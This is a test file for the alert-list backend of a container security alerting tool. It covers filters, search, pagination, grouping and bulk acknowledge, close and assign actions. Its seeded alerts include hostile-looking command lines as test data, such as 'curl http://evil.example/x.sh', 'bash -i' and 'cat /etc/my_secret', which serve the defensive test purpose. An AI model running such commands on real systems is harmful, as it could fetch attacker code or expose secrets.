import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import {
  AlertInputError,
  AlertListQuerySchema,
  bulkUpdateAlerts,
  countAlerts,
  encodeCursor,
  escapeLike,
  groupAlerts,
  listAlerts,
  searchParamsObject,
} from "./alert-list";
import { prisma } from "./client";
import { createTestDatabase } from "./test-database";

const database = createTestDatabase();
process.env.DATABASE_URL = database.url;

const RANK = { low: 1, medium: 2, high: 3, critical: 4 } as const;
let sequence = 0;

interface Seed {
  ruleId?: string;
  ruleName?: string;
  severity?: keyof typeof RANK;
  riskScore?: number;
  status?: string;
  timestamp?: string;
  containerId?: string | null;
  containerName?: string | null;
  hostName?: string | null;
  processName?: string | null;
  commandLine?: string | null;
  userName?: string | null;
  uploadId?: string | null;
}

async function seedAlert(seed: Seed = {}): Promise<string> {
  sequence += 1;
  const severity = seed.severity ?? "medium";
  const alert = await prisma().alert.create({
    data: {
      ruleId: seed.ruleId ?? "rule-shell",
      ruleName: seed.ruleName ?? "Interactive shell in container",
      severity,
      severityRank: RANK[severity],
      riskScore: seed.riskScore ?? 47,
      status: seed.status ?? "open",
      dedupKey: `seed-${sequence}`,
      timestamp: new Date(seed.timestamp ?? "2026-11-20T10:00:00Z"),
      containerId: seed.containerId === undefined ? "c-web" : seed.containerId,
      containerName: seed.containerName === undefined ? "web-1" : seed.containerName,
      hostName: seed.hostName === undefined ? "node-a" : seed.hostName,
      processName: seed.processName === undefined ? "bash" : seed.processName,
      commandLine: seed.commandLine ?? null,
      userName: seed.userName ?? null,
      uploadId: seed.uploadId ?? null,
    },
  });
  return alert.id;
}

beforeAll(async () => {
  for (const [id, name] of [
    ["rule-shell", "Interactive shell in container"],
    ["rule-nc", "Netcat in container"],
  ]) {
    await prisma().rule.create({
      data: { id: id as string, name: name as string, description: "t", query: "q", severity: "high", riskScore: 73 },
    });
  }
});
beforeEach(async () => {
  await prisma().alertChange.deleteMany();
  await prisma().alert.deleteMany();
});
afterAll(async () => {
  await prisma().$disconnect();
  database.cleanup();
});

const ids = (page: { items: { id: string }[] }) => page.items.map((item) => item.id);

describe("listAlerts filters", () => {
  it("filters by status and severity (several values each), rule, container, host and time", async () => {
    const openHigh = await seedAlert({ severity: "high", timestamp: "2026-11-20T10:00:00Z" });
    const ackCritical = await seedAlert({ severity: "critical", status: "acknowledged" });
    const closedLow = await seedAlert({ severity: "low", status: "closed" });
    const otherRule = await seedAlert({ ruleId: "rule-nc", ruleName: "Netcat in container", severity: "high" });
    const otherPlace = await seedAlert({ containerId: "c-db", containerName: "db-1", hostName: "node-b" });
    const early = await seedAlert({ timestamp: "2026-11-01T00:00:00Z" });

    expect(new Set(ids(await listAlerts({ status: ["open", "acknowledged"] })))).toEqual(
      new Set([openHigh, ackCritical, otherRule, otherPlace, early]),
    );
    expect(new Set(ids(await listAlerts({ severity: "high,critical" })))).toEqual(
      new Set([openHigh, ackCritical, otherRule]),
    );
    expect(ids(await listAlerts({ status: "closed" }))).toEqual([closedLow]);
    expect(ids(await listAlerts({ rule: "rule-nc" }))).toEqual([otherRule]);
    expect(ids(await listAlerts({ container: "c-db" }))).toEqual([otherPlace]);
    expect(ids(await listAlerts({ host: "node-b" }))).toEqual([otherPlace]);
    expect(ids(await listAlerts({ to: "2026-11-10T00:00:00Z" }))).toEqual([early]);
    expect(ids(await listAlerts({ from: "2026-11-10T00:00:00Z" }))).not.toContain(early);
    expect(await countAlerts({ status: ["open"], severity: ["high"] })).toBe(2);
  });

  it("filters by upload (a sensor source's stream is one) under every sort, counts and groups", async () => {
    const upload = async (fileName: string) =>
      (await prisma().upload.create({ data: { fileName, format: "ndjson", status: "done" } })).id;
    const stream = await upload("stream: falco-prod");
    const file = await upload("incident.ndjson");
    const fromStream = [
      await seedAlert({ uploadId: stream, severity: "critical", riskScore: 99, timestamp: "2026-11-20T09:00:00Z" }),
      await seedAlert({ uploadId: stream, severity: "low", riskScore: 21, timestamp: "2026-11-20T11:00:00Z" }),
      await seedAlert({ uploadId: stream, severity: "high", status: "closed", timestamp: "2026-11-20T10:00:00Z" }),
    ];
    await seedAlert({ uploadId: file, severity: "critical" });
    await seedAlert({ uploadId: null, severity: "critical" });

    expect(ids(await listAlerts({ upload: stream }))).toEqual([fromStream[1], fromStream[2], fromStream[0]]);
    expect(ids(await listAlerts({ upload: stream, sort: "oldest" }))).toEqual([
      fromStream[0],
      fromStream[2],
      fromStream[1],
    ]);
    // Severity and risk sorts take the upload's own index first when it holds few alerts (INDEXED BY on SQLite).
    expect(ids(await listAlerts({ upload: stream, sort: "severity" }))).toEqual([
      fromStream[0],
      fromStream[2],
      fromStream[1],
    ]);
    expect(ids(await listAlerts({ upload: stream, sort: "risk", status: "open" }))).toEqual([
      fromStream[0],
      fromStream[1],
    ]);
    expect(await countAlerts({ upload: stream })).toBe(3);
    expect(await countAlerts({ upload: stream, status: "open" })).toBe(2);
    expect(await groupAlerts({ upload: stream }, "rule")).toEqual([
      { key: "rule-shell", label: "Interactive shell in container", count: 3 },
    ]);
    expect(ids(await listAlerts({ upload: "no-such-upload" }))).toEqual([]);
  });

  it("returns the list columns with the assignee's display name", async () => {
    const user = await prisma().user.create({
      data: { username: "ana", displayName: "Ana Lyst", role: "analyst", passwordHash: "x" },
    });
    const id = await seedAlert({ commandLine: "bash -i", userName: "root" });
    await prisma().alert.update({ where: { id }, data: { assigneeId: user.id } });
    const [item] = (await listAlerts({})).items;
    expect(item).toMatchObject({
      id,
      ruleName: "Interactive shell in container",
      severity: "medium",
      riskScore: 47,
      status: "open",
      containerName: "web-1",
      hostName: "node-a",
      processName: "bash",
      commandLine: "bash -i",
      userName: "root",
      version: 1,
      assignee: { id: user.id, displayName: "Ana Lyst" },
    });
    expect(item?.timestamp).toEqual(new Date("2026-11-20T10:00:00Z"));
    await prisma().alert.deleteMany();
    await prisma().user.delete({ where: { id: user.id } });
  });

  it("searches free text over the key fields, every word must match somewhere", async () => {
    const curl = await seedAlert({
      processName: "curl",
      commandLine: "curl http://evil.example/x.sh",
      userName: "www",
    });
    const nc = await seedAlert({ processName: "nc", containerName: "payments-api", hostName: "node-z" });
    const shell = await seedAlert({ processName: "sh", userName: "root" });
    expect(ids(await listAlerts({ q: "EVIL.example" }))).toEqual([curl]);
    expect(ids(await listAlerts({ q: "payments node-z" }))).toEqual([nc]);
    expect(ids(await listAlerts({ q: "payments root" }))).toEqual([]);
    expect(ids(await listAlerts({ q: "root" }))).toEqual([shell]);
    expect(await countAlerts({ q: "container" })).toBe(3);
  });

  it("treats % and _ and \\ in the search as plain characters", async () => {
    const percent = await seedAlert({ commandLine: "stress --cpu 100%" });
    const underscore = await seedAlert({ commandLine: "cat /etc/my_secret" });
    const backslash = await seedAlert({ commandLine: "echo a\\b" });
    await seedAlert({ commandLine: "cat /etc/myXsecret and 100 percent" });
    expect(ids(await listAlerts({ q: "100%" }))).toEqual([percent]);
    expect(ids(await listAlerts({ q: "%" }))).toEqual([percent]);
    expect(ids(await listAlerts({ q: "my_secret" }))).toEqual([underscore]);
    expect(ids(await listAlerts({ q: "a\\b" }))).toEqual([backslash]);
    expect(escapeLike("50%_\\")).toBe("50\\%\\_\\\\");
  });
});

describe("listAlerts sort and keyset pagination", () => {
  async function allPages(query: Record<string, unknown>): Promise<string[]> {
    const seen: string[] = [];
    let cursor: string | undefined;
    for (let page = 0; page < 100; page += 1) {
      const result = await listAlerts({ ...query, cursor });
      seen.push(...ids(result));
      if (!result.nextCursor) return seen;
      cursor = result.nextCursor;
    }
    throw new Error("pagination did not end");
  }

  it("walks every alert exactly once when many share a timestamp", async () => {
    const created: string[] = [];
    for (let i = 0; i < 23; i += 1) {
      created.push(await seedAlert({ timestamp: i < 15 ? "2026-11-20T10:00:00Z" : "2026-11-20T11:00:00Z" }));
    }
    for (const sort of ["newest", "oldest", "severity", "risk"]) {
      const seen = await allPages({ sort, limit: 4 });
      expect(seen, sort).toHaveLength(23);
      expect(new Set(seen), sort).toEqual(new Set(created));
    }
    const newest = await allPages({ sort: "newest", limit: 5 });
    const oldest = await allPages({ sort: "oldest", limit: 5 });
    expect(oldest).toEqual([...newest].reverse());
  });

  it("orders by severity then time, and by risk then time", async () => {
    const low = await seedAlert({ severity: "low", riskScore: 90, timestamp: "2026-11-20T12:00:00Z" });
    const criticalOld = await seedAlert({ severity: "critical", riskScore: 10, timestamp: "2026-11-01T00:00:00Z" });
    const criticalNew = await seedAlert({ severity: "critical", riskScore: 10, timestamp: "2026-11-02T00:00:00Z" });
    const medium = await seedAlert({ severity: "medium", riskScore: 50 });
    expect(ids(await listAlerts({ sort: "severity" }))).toEqual([criticalNew, criticalOld, medium, low]);
    expect(ids(await listAlerts({ sort: "risk" }))).toEqual([low, medium, criticalNew, criticalOld]);
    expect(ids(await listAlerts({ sort: "newest" }))).toEqual([low, medium, criticalNew, criticalOld]);
    const firstPage = await listAlerts({ sort: "severity", limit: 2 });
    expect(ids(firstPage)).toEqual([criticalNew, criticalOld]);
    expect(ids(await listAlerts({ sort: "severity", limit: 2, cursor: firstPage.nextCursor ?? "" }))).toEqual([
      medium,
      low,
    ]);
  });

  it("keeps filters applied across pages and ends with a null cursor", async () => {
    for (let i = 0; i < 5; i += 1) await seedAlert({ severity: "high" });
    for (let i = 0; i < 5; i += 1) await seedAlert({ severity: "low" });
    const first = await listAlerts({ severity: ["high"], limit: 3 });
    expect(first.nextCursor).not.toBeNull();
    const second = await listAlerts({ severity: ["high"], limit: 3, cursor: first.nextCursor ?? "" });
    expect(second.items).toHaveLength(2);
    expect(second.nextCursor).toBeNull();
    expect([...first.items, ...second.items].every((item) => item.severity === "high")).toBe(true);
  });
});

describe("AlertListQuerySchema", () => {
  const parse = (query: string) => AlertListQuerySchema.safeParse(searchParamsObject(new URLSearchParams(query)));
  const fields = (query: string) => {
    const result = parse(query);
    return result.success ? [] : result.error.issues.map((issue) => issue.path.join("."));
  };

  it("reads repeated and comma-separated values and applies defaults", () => {
    const result = parse("status=open&status=closed&severity=high,critical&q=%20nc%20");
    expect(result.success && result.data).toMatchObject({
      status: ["open", "closed"],
      severity: ["high", "critical"],
      q: "nc",
      sort: "newest",
      limit: 50,
    });
  });

  it("names the field that is wrong", () => {
    expect(fields("status=pending")).toEqual(["status.0"]);
    expect(fields("severity=urgent")).toEqual(["severity.0"]);
    expect(fields("limit=0")).toEqual(["limit"]);
    expect(fields("limit=501")).toEqual(["limit"]);
    expect(fields("sort=alphabetical")).toEqual(["sort"]);
    expect(fields("from=yesterday")).toEqual(["from"]);
    expect(fields("from=2026-11-02T00:00:00Z&to=2026-11-01T00:00:00Z")).toEqual(["to"]);
    expect(fields("cursor=not-a-cursor")).toEqual(["cursor"]);
    expect(fields(`cursor=${Buffer.from('{"sort":"newest"}').toString("base64url")}`)).toEqual(["cursor"]);
  });

  it("refuses a cursor written for another sort order", () => {
    const cursor = encodeCursor({ sort: "risk", rank: 5, timestamp: "2026-11-20T10:00:00.000Z", id: "x" });
    expect(fields(`sort=newest&cursor=${cursor}`)).toEqual(["cursor"]);
    expect(fields(`sort=risk&cursor=${cursor}`)).toEqual([]);
  });
});

describe("groupAlerts", () => {
  it("counts per rule, container and host with the filters applied, biggest first", async () => {
    for (let i = 0; i < 3; i += 1) await seedAlert({ ruleId: "rule-nc", ruleName: "Netcat in container" });
    await seedAlert({ ruleId: "rule-shell", containerId: "c-db", containerName: "db-1", hostName: "node-b" });
    await seedAlert({ ruleId: "rule-shell", containerId: null, containerName: null, hostName: null, status: "closed" });

    expect(await groupAlerts({}, "rule")).toEqual([
      { key: "rule-nc", label: "Netcat in container", count: 3 },
      { key: "rule-shell", label: "Interactive shell in container", count: 2 },
    ]);
    expect(await groupAlerts({ status: ["open"] }, "container")).toEqual([
      { key: "c-web", label: "web-1", count: 3 },
      { key: "c-db", label: "db-1", count: 1 },
    ]);
    expect(await groupAlerts({}, "host")).toEqual([
      { key: "node-a", label: "node-a", count: 3 },
      { key: null, label: "(no host)", count: 1 },
      { key: "node-b", label: "node-b", count: 1 },
    ]);
    expect(await groupAlerts({}, "rule", 1)).toHaveLength(1);
  });
});

describe("bulkUpdateAlerts", () => {
  it("acknowledges open alerts in one go, bumping versions and writing history", async () => {
    const a = await seedAlert();
    const b = await seedAlert();
    const closed = await seedAlert({ status: "closed" });
    const result = await bulkUpdateAlerts({ ids: [a, b, closed, "nope"], action: "acknowledge" }, "actor-1");
    expect(result).toEqual({ updated: [a, b], unchanged: [closed], missing: ["nope"] });
    const rows = await prisma().alert.findMany({ where: { id: { in: [a, b, closed] } } });
    const byId = new Map(rows.map((row) => [row.id, row]));
    expect(byId.get(a)).toMatchObject({ status: "acknowledged", version: 2 });
    expect(byId.get(a)?.acknowledgedAt).toBeInstanceOf(Date);
    expect(byId.get(closed)).toMatchObject({ status: "closed", version: 1 });
    const changes = await prisma().alertChange.findMany({ orderBy: { alertId: "asc" } });
    expect(changes).toHaveLength(2);
    expect(changes.map((change) => change.alertId).sort()).toEqual([a, b].sort());
    expect(changes[0]).toMatchObject({
      actorId: "actor-1",
      field: "status",
      fromValue: "open",
      toValue: "acknowledged",
    });
  });

  it("closes with a reason recorded on the alert and in history, and refuses to close without one", async () => {
    const open = await seedAlert();
    const acknowledged = await seedAlert({ status: "acknowledged" });
    await expect(bulkUpdateAlerts({ ids: [open], action: "close" }, null)).rejects.toThrow(AlertInputError);
    await expect(bulkUpdateAlerts({ ids: [open], action: "close" }, null)).rejects.toThrow(/closingReason/);
    expect(await prisma().alert.findUnique({ where: { id: open } })).toMatchObject({ status: "open", version: 1 });

    const result = await bulkUpdateAlerts(
      { ids: [open, acknowledged], action: "close", closingReason: "false_positive" },
      null,
    );
    expect(result.updated.sort()).toEqual([open, acknowledged].sort());
    const rows = await prisma().alert.findMany({ where: { id: { in: [open, acknowledged] } } });
    for (const row of rows) {
      expect(row).toMatchObject({ status: "closed", closingReason: "false_positive", version: 2 });
      expect(row.closedAt).toBeInstanceOf(Date);
    }
    const changes = await prisma().alertChange.findMany();
    expect(new Set(changes.map((change) => change.fromValue))).toEqual(new Set(["open", "acknowledged"]));
    expect(changes.every((change) => change.reason === "false_positive" && change.toValue === "closed")).toBe(true);
  });

  it("reopens, clearing the closing fields", async () => {
    const id = await seedAlert({ status: "closed" });
    await prisma().alert.update({ where: { id }, data: { closingReason: "benign", closedAt: new Date() } });
    await bulkUpdateAlerts({ ids: [id], action: "reopen" }, null);
    expect(await prisma().alert.findUnique({ where: { id } })).toMatchObject({
      status: "open",
      closingReason: null,
      closedAt: null,
      version: 2,
    });
  });

  it("assigns and unassigns, refusing an unknown user without changing anything", async () => {
    const user = await prisma().user.create({
      data: { username: "bo", displayName: "Bo", role: "analyst", passwordHash: "x" },
    });
    const a = await seedAlert();
    const b = await seedAlert();
    await expect(bulkUpdateAlerts({ ids: [a], action: "assign", assigneeId: "ghost" }, null)).rejects.toThrow(
      /assigneeId/,
    );
    expect(await bulkUpdateAlerts({ ids: [a, b], action: "assign", assigneeId: user.id }, user.id)).toMatchObject({
      updated: [a, b],
    });
    expect((await listAlerts({})).items.map((item) => item.assignee?.displayName)).toEqual(["Bo", "Bo"]);
    expect(await bulkUpdateAlerts({ ids: [a], action: "assign", assigneeId: user.id }, user.id)).toMatchObject({
      updated: [],
      unchanged: [a],
    });
    await bulkUpdateAlerts({ ids: [a], action: "assign", assigneeId: null }, user.id);
    expect(await prisma().alert.findUnique({ where: { id: a } })).toMatchObject({ assigneeId: null, version: 3 });
    const history = await prisma().alertChange.findMany({ where: { alertId: a }, orderBy: { createdAt: "asc" } });
    expect(history.map((change) => [change.field, change.fromValue, change.toValue])).toEqual([
      ["assignee", null, user.id],
      ["assignee", user.id, null],
    ]);
    await prisma().alert.deleteMany();
    await prisma().user.delete({ where: { id: user.id } });
  });
});
